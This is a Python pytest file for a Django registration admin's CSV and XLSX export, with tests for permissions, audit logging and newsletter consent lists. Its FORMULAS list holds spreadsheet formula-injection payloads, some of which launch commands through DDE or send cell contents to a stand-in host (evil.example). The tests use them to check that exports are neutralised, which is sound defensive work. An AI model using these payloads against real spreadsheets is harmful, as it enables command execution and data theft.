"""Lists that leave the site: what is in them, who may take them, and what a spreadsheet makes of hostile texts."""

import csv
import io
import time
import zipfile
from collections.abc import Iterator
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.db.models import QuerySet
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from registrations.admin.people import exports
from registrations.domain import attendance, signup
from registrations.models import Attendance, AuditEntry, Delivery, Event, Registration
from registrations.security import second_factor
from registrations.spreadsheets import writer
from tests.admin_client import EVENTS, PEOPLE, logged_in
from tests.factories import answers, make_event, make_past_event, make_registration

pytestmark = pytest.mark.django_db

EXPORT = f"{PEOPLE}export/"
ALL = [
    *["last_name", "first_name", "email", "organisation", "job_title", "territory", "status", "registered"],
    *["registered_iso", "presence", "heard_from", "question", "newsletter", "last_mail", "language", "event"],
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    '=EXEC("calc")',
    "=2+5+cmd|' /C calc'!A0",
    "=A1",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+SUM(1,1)",
    "+33612345678+A1",
    "+33 6 12 34 56 78*2",
    "+33;1",
    "++1",
    "+",
    "+١٢",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1+1",
    "｜calc",
    "％1",
]
HARMLESS = [
    "Zoë",
    "Ville de Nulle-Part",
    "O’Neill",
    "'déjà une apostrophe",
    "a=1",
    "1 + 1 = 2 ?",
    "zoe+lettre@example.org",
    "« Pourquoi »",
    "5 %",
    "",
    "‑ tiret insécable",
    "− signe moins",
]
TELEPHONES = ["+33 6 12 34 56 78", "+33612345678", "+33\u00a06\u00a012\u202f34", "+1"]


@pytest.fixture
def organiser() -> Client:
    return fresh(logged_in())


def fresh(client: Client, age: float = 0) -> Client:
    """Whose password was typed so many seconds ago."""
    session = client.session
    session[second_factor.PASSWORD_AT] = time.time() - age
    session.save()
    return client


def content(answer: Any) -> bytes:
    return b"".join(answer.streaming_content)


def table(answer: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content(answer).decode("utf-8-sig"), newline=""), delimiter=";"))


def sheet(data: bytes) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert {cell.data_type for row in book.active for cell in row} <= {"s", "inlineStr", "n"}
    return [[cell.value for cell in row] for row in book.active]


def export(client: Client, query: str = "", columns: list[str] | None = None, file_format: str = "csv") -> Any:
    return client.post(f"{EXPORT}{query}", {"columns": columns or ["last_name"], "file_format": file_format})


def take(client: Client, event: Event, document: str, **more: str) -> Any:
    return client.post(f"{EVENTS}{event.pk}/lists/", {"document": document, **more})


def recorded() -> QuerySet[AuditEntry]:
    return AuditEntry.objects.filter(action=AuditEntry.Action.EXPORTED)


# Cells


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_might_compute_gets_an_apostrophe(text: str) -> None:
    assert writer.neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert writer.neutral(text) == text


@pytest.mark.parametrize("text", TELEPHONES)
def test_a_telephone_number_is_not_spoilt(text: str) -> None:
    """After its sign it holds ASCII digits and blanks alone: no operator, no name and no reference to compute."""
    assert writer.neutral(text) == text
    assert not set(text[1:]) - set("0123456789 \u00a0\u202f")


def test_a_csv_file_is_what_a_french_spreadsheet_opens_by_a_double_click() -> None:
    made = b"".join(writer.csv_file(["Nom", "Question"], iter([["Zoë", 'deux\nlignes; et "un mot"']])))
    assert made == '\ufeff"Nom";"Question"\r\n"Zoë";"deux\nlignes; et ""un mot"""\r\n'.encode()


def test_a_workbook_holds_texts_and_no_formula() -> None:
    texts = [text for text in [*FORMULAS, *HARMLESS, *TELEPHONES] if "\x00" not in text]
    made = b"".join(writer.workbook("inscriptions", ["Texte"], ([text] for text in texts)))
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet1.xml")
    read = [row[0] or "" for row in sheet(made)]
    assert read == ["Texte", *(text.replace("\r\n", "\n").replace("\r", "\n") for text in texts)]


def test_a_workbook_takes_signs_that_xml_refuses_and_codes_that_excel_would_read() -> None:
    made = b"".join(writer.workbook("x", ["a"], iter([["nul\x00 b\x0b \ufffe <&> _x0041_ 👩‍💻"]])))
    xml = zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet1.xml").decode()
    assert "nul b  &lt;&amp;&gt; _x005F_x0041_ 👩‍💻" in xml


def test_a_file_leaves_piece_by_piece() -> None:
    asked = []

    def lines() -> Iterator[list[str]]:
        for number in range(3 * writer.BATCH):
            asked.append(number)
            yield [str(number)]

    for make in (writer.csv_file, lambda headings, rows: writer.workbook("x", headings, rows)):
        asked.clear()
        pieces = make(["a"], lines())
        assert next(pieces)
        next(pieces)
        assert len(asked) < 3 * writer.BATCH


# The registrations


def test_the_columns_are_chosen_and_remembered_for_the_session(organiser: Client) -> None:
    page = organiser.get(EXPORT)
    assert page.context["form"]["columns"].value() == ALL[:9]
    make_registration(last_name="Durand", organisation="CAF")
    assert table(export(organiser, columns=["organisation", "last_name"])) == [["Nom", "Structure"], ["Durand", "CAF"]]
    assert organiser.get(EXPORT).context["form"]["columns"].value() == ["organisation", "last_name"]


def test_every_column_says_what_the_admin_says(organiser: Client) -> None:
    event = make_past_event(title="Le titre")
    person = make_registration(event, **answers(email="zoe@example.org", question="Où ?", newsletter=True))
    attendance.note(person, Attendance.Origin.HAND)
    Delivery.objects.create(registration=person, kind=Delivery.Kind.CONFIRMATION, state=Delivery.State.SENT)
    Registration.objects.update(created_at=datetime.fromisoformat("2025-05-02T08:05:00+00:00"))
    headings, row = table(export(organiser, columns=ALL))
    assert dict(zip(headings, row, strict=True)) == {
        "Nom": "D’Arcy-Ó Súilleabháin",
        "Prénom": "Zoë",
        "Adresse électronique": "zoe@example.org",
        "Structure": "Ville de Nulle-Part",
        "Fonction": "Cheffe de projet",
        "Territoire": "",
        "Statut": "Confirmée",
        "Inscription": "02/05/2025 10:05",
        "Inscription (ISO 8601)": "2025-05-02T10:05:00+02:00",
        "Présence": "Oui\u00a0: à la main",
        "En a entendu parler par": "",
        "Question": "Où ?",
        "Lettre d’information": "Oui",
        "Dernier courriel": "Remis au serveur d’envoi",
        "Langue": "Français",
        "Webinaire": "Le titre",
    }


def test_the_same_rows_leave_as_a_workbook(organiser: Client) -> None:
    make_registration(last_name="=1+1")
    answer = export(organiser, file_format="xlsx")
    assert answer["Content-Disposition"].endswith('.xlsx"')
    assert sheet(content(answer)) == [["Nom"], ["=1+1"]]


def test_hostile_answers_leave_disarmed(organiser: Client) -> None:
    event = make_event()
    for text in FORMULAS:
        make_registration(event, organisation=text.replace("\x00", "") or "x")
    cells = [row[0] for row in table(export(organiser, columns=["organisation"]))[1:]]
    assert len(cells) == len(FORMULAS)
    assert [cell for cell in cells if cell and not cell.startswith("'")] == []  # a lone tab is an empty line


def test_no_personal_link_ever_leaves(organiser: Client) -> None:
    person = make_registration()
    signup.welcome(person)
    for file_format in ("csv", "xlsx"):
        data = content(export(organiser, columns=ALL, file_format=file_format))
        if file_format == "xlsx":
            data = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
        assert person.join_code.encode() not in data
        assert person.manage_code.encode() not in data


def test_the_filters_of_the_list_hold_and_a_wrong_one_is_refused(organiser: Client) -> None:
    event = make_event()
    make_registration(event, last_name="Durand")
    make_registration(event, last_name="Martin", status="cancelled", cancelled_at=timezone.now())
    make_registration(last_name="Ailleurs")
    query = f"?event__id__exact={event.pk}&status__exact=confirmed"
    assert "1 inscription quitte le site" in organiser.get(f"{EXPORT}{query}").text
    assert f'href="{EXPORT}{query}"'.replace("&", "&amp;") in organiser.get(f"{PEOPLE}{query}").text
    assert table(export(organiser, query)) == [["Nom"], ["Durand"]]
    assert table(export(organiser, "?q=Martin")) == [["Nom"], ["Martin"]]
    assert organiser.get(f"{EXPORT}?nothing=1").status_code == 400


def test_an_export_without_columns_or_of_an_unknown_kind_is_the_page_again(organiser: Client) -> None:
    page = organiser.post(EXPORT, {"file_format": "csv"})
    assert "Cochez au moins une colonne." in page.text
    assert export(organiser, columns=["join_code"]).status_code == 200
    assert not recorded().exists()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_three_hundred_rows_ask_no_more_of_the_database_than_three(organiser: Client, file_format: str) -> None:
    event = make_past_event()

    def asked(people: int) -> int:
        while event.registrations.count() < people:
            person = make_registration(event)
            attendance.note(person, Attendance.Origin.HAND)
            Delivery.objects.create(registration=person, kind=Delivery.Kind.CONFIRMATION)
        with CaptureQueriesContext(connection) as captured:
            content(export(organiser, columns=ALL, file_format=file_format))
        return len([query for query in captured if "SAVEPOINT" not in query["sql"]])

    export(organiser, columns=ALL)
    few = asked(3)
    assert asked(300) == few <= 16


# Who may, and what is kept of it


def test_an_export_asks_for_its_own_permission() -> None:
    event = make_event()
    reader = fresh(logged_in("view_registration", "change_registration", "view_event", "change_event"))
    assert reader.get(EXPORT).status_code == 403
    assert export(reader).status_code == 403
    assert take(reader, event, "newsletter-csv").status_code == 403
    assert "/export/" not in reader.get(PEOPLE).text


def test_who_has_the_permission_needs_no_other_than_to_see() -> None:
    event = make_event()
    exporter = fresh(logged_in("view_registration", "view_event", "export_registration"))
    assert export(exporter).status_code == 200
    assert exporter.get(f"{EVENTS}{event.pk}/lists/").status_code == 200


def test_the_password_is_asked_again_an_hour_after_it_was_typed() -> None:
    event = make_event()
    client = fresh(logged_in(), age=3601)
    for path in (EXPORT, f"{EXPORT}?q=x", f"{EVENTS}{event.pk}/lists/"):
        for answer in (client.get(path), client.post(path, {"document": "newsletter-csv"})):
            assert answer.status_code == 302
            assert answer["Location"].startswith("/admin/confirm/?next=")
    assert "fait sortir" in client.get(f"/admin/confirm/?next={EXPORT}").text


def test_the_audit_log_knows_filter_columns_and_count_and_no_name(organiser: Client) -> None:
    event = make_event()
    make_registration(event, last_name="Durand")
    content(export(organiser, f"?event__id__exact={event.pk}&q=Durand", columns=["last_name", "email"]))
    [entry] = recorded()
    assert entry.detail == {
        "list": "registrations",
        "filters": {"event__id__exact": str(event.pk)},
        "searched": True,
        "columns": ["last_name", "email"],
        "rows": 1,
    }
    assert entry.actor is not None


def test_a_get_takes_nothing_out_and_writes_nothing(organiser: Client) -> None:
    event = make_event()
    for path in (EXPORT, f"{EVENTS}{event.pk}/lists/"):
        assert (
            organiser.get(path, {"document": "newsletter-csv", "columns": "email"})["Content-Type"][:9] == "text/html"
        )
    assert not recorded().exists()


def test_the_files_are_kept_by_no_cache(organiser: Client) -> None:
    answer = export(organiser)
    assert "no-store" in answer["Cache-Control"]
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"


# The newsletter


def test_the_newsletter_list_holds_who_ticked_with_the_proof_of_it_and_nobody_else(organiser: Client) -> None:
    event = make_event(newsletter_label="Je souhaite recevoir la lettre")
    signup.register(event, language="fr", **answers(email="oui@example.org", newsletter=True))
    signup.register(event, language="fr", **answers(email="non@example.org"))
    signup.register(event, language="fr", **answers(email="plus@example.org", newsletter=True))
    Registration.objects.filter(email="plus@example.org").update(erase_by=timezone.now())
    make_registration(make_event(), newsletter=True)
    reader = Registration.objects.get(email="oui@example.org")
    assert reader.newsletter_at is not None
    consent = reader.newsletter_at.astimezone(event.zone).isoformat(timespec="seconds")
    Event.objects.filter(pk=event.pk).update(newsletter_label="D’autres mots")
    assert table(take(organiser, event, "newsletter-csv")) == [
        ["Adresse électronique", "Prénom", "Nom", "Accord donné (ISO 8601)", "Mots acceptés"],
        ["oui@example.org", "Zoë", "D’Arcy-Ó Súilleabháin", consent, "Je souhaite recevoir la lettre"],
    ]
    [entry] = recorded()
    assert (entry.about, entry.detail) == (f"registrations.event {event.pk}", {"list": "newsletter", "rows": 1})
    assert len(sheet(content(take(organiser, event, "newsletter-xlsx")))) == 2


def test_an_unknown_document_is_the_page_again_and_an_unknown_event_is_not_found(organiser: Client) -> None:
    event = make_event()
    assert take(organiser, event, "everything")["Location"] == f"{EVENTS}{event.pk}/lists/"
    assert organiser.get(f"{EVENTS}0/lists/").status_code == 404


def test_an_export_that_takes_long_says_how_long_and_that_one_may_go_on(
    organiser: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is sent while it is read: the first piece is there before the last row was asked for."""
    event = make_event()
    for _ in range(4):
        make_registration(event)
    assert "comptez environ" not in organiser.get(EXPORT).text
    monkeypatch.setattr(exports, "ROWS_A_SECOND", 1)
    page = organiser.get(EXPORT).text
    assert "comptez environ 4 secondes" in page
    assert "faire autre chose" in page
